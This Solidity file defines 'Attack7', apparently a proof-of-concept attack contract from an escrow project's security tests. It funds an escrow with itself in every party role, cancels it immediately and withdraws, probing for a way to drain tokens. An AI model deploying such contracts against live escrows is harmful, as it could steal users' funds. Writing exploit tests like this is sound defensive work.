// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IEscrow} from "@argosy/interfaces/IEscrow.sol";
import {AnyToken} from "./AnyToken.sol";

contract Attack7 {
    AnyToken private immutable escrow;
    address private immutable token;

    constructor(AnyToken escrow_, address token_) {
        escrow = escrow_;
        token = token_;
    }

    function attack() external {
        uint96 all = uint96(IERC20(token).balanceOf(address(this)));
        IERC20(token).approve(address(escrow), all);
        escrow.cancel(escrow.fund(terms(all)));
        escrow.withdraw(token);
    }

    function terms(uint96 price) private view returns (IEscrow.Terms memory) {
        address me = address(this);
        return IEscrow.Terms(me, me, me, me, me, token, price, 0, 0, 0, 1, 1, 1, 1, 0, 0, false);
    }
}
